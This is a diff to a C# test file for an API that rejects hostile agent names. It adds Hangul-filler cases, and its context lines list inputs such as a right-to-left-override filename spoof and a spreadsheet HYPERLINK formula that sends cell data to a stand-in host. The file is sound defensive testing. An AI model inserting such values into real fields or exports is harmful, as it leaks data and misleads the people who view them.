@@ -23,6 +23,8 @@ public sealed class DisplayTextApiTests : IDisposable
     [InlineData("first line\nsecond line")]
     [InlineData("invoice\u202Etxt.exe")]
     [InlineData("zero\u200Bwidth")]
+    [InlineData("\u3164")]
+    [InlineData("Scout\u3164")]
     [InlineData("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"details\")")]
     [InlineData("...")]
     public async Task Hostile_agent_name_is_a_400_naming_the_field_and_registers_nothing(string name)
